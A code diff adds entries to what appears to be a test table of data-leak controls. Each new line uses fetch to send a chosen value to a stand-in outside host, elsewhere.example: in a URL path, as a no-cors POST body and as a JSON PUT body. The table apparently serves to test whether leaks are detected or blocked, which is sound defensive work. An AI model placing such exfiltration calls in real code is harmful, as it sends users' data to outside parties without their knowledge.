@@ -23,6 +23,16 @@ export const CONTROLS = {
   ),
   "a background in a variant": leak(add("`<div style=\"height:9px;background:url(/assets/${chosen}.svg)\">x</div>`")),
   "a preconnect": leak(add("`<link rel=\"preconnect\" href=\"https://${chosen}.example\">`")),
+  "a path on another host": leak(
+    "await fetch(`https://elsewhere.example/${chosen}`, { mode: \"no-cors\" }).catch(() => {});",
+  ),
+  "a body to another host": leak(
+    'await fetch("http://elsewhere.example/", { method: "POST", mode: "no-cors", body: chosen }).catch(() => {});',
+  ),
+  // A host is first asked whether it may be sent this.
+  "a body of JSON to another host": leak(
+    'await fetch("https://elsewhere.example/", { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify(chosen) }).catch(() => {});',
+  ),
   "a lazy image below a slot whose height changes": leak(
     // As scripts do it: what browsers do by themselves is seen to.
     add('`<p id="lazy">x</p>`') +
